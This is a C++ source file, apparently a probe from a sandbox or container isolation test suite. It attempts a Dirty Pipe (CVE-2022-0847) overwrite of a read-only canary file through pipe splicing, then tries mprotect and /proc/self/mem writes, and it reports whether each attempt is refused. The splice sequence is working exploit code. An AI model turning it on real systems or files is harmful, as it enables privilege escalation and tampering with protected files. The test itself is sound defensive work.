// B11. Writing to a file of a lower layer through the page cache (the "Dirty Pipe" way, CVE-2022-0847).
// Argument: a file that lies in a lower layer and begins with "untouched".
#include "attack.hpp"

#include <sys/mman.h>
#include <sys/sendfile.h>

#include <fcntl.h>
#include <string>
#include <unistd.h>
#include <vector>

namespace {

std::string content_of(const char* path) {
  const int file = ::open(path, O_RDONLY | O_CLOEXEC);
  char text[9] = {};
  const auto size = ::read(file, text, sizeof text);
  ::close(file);
  return {text, size > 0 ? static_cast<std::size_t>(size) : 0};
}

} // namespace

int main(int argc, char** argv) {
  const char* path = argc > 1 ? argv[1] : "canary.txt";
  if (content_of(path) != "untouched") {
    attack::missing("pages.dirty_pipe", "the canary is not there");
    return attack::done();
  }
  int pipe[2];
  const int file = ::open(path, O_RDONLY | O_CLOEXEC);
  if (file < 0 || ::pipe2(pipe, O_CLOEXEC) != 0) {
    attack::missing("pages.dirty_pipe", attack::error_name(errno));
    return attack::done();
  }
  // Fill and drain the pipe, so that every buffer has had the flag that allows merging.
  const int size = ::fcntl(pipe[1], F_GETPIPE_SZ);
  std::vector<char> buffer(4096);
  for (int left = size; left > 0; left -= 4096) {
    if (::write(pipe[1], buffer.data(), buffer.size()) < 0) {
      break;
    }
  }
  for (int left = size; left > 0; left -= 4096) {
    if (::read(pipe[0], buffer.data(), buffer.size()) < 0) {
      break;
    }
  }
  loff_t offset = 0;
  const auto spliced = ::splice(file, &offset, pipe[1], nullptr, 1, 0);
  if (spliced != 1 || ::write(pipe[1], "OVERWRITE", 9) != 9) {
    attack::missing("pages.dirty_pipe", "splice: " + attack::error_name(errno));
  } else {
    attack::holds("pages.dirty_pipe", content_of(path) == "untouched", "reads " + content_of(path));
  }
  // A mapping of a file opened for reading must not become writable.
  void* map = ::mmap(nullptr, 4096, PROT_READ, MAP_SHARED, file, 0);
  attack::refused("pages.mprotect_shared", ::mprotect(map, 4096, PROT_READ | PROT_WRITE), {EACCES, EPERM});
  const int memory = ::open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  if (memory < 0) {
    attack::refused("pages.self_mem", memory, {EACCES, EPERM});
  } else {
    // Through /proc/self/mem a write to a private view is forced; it must stay private.
    const auto wrote =
        ::pwrite(memory, "OVERWRITE", 9, static_cast<off_t>(reinterpret_cast<std::intptr_t>(map)));
    attack::holds(
        "pages.self_mem", content_of(path) == "untouched",
        wrote == 9 ? "write stayed private" : "write refused");
  }
  return attack::done();
}
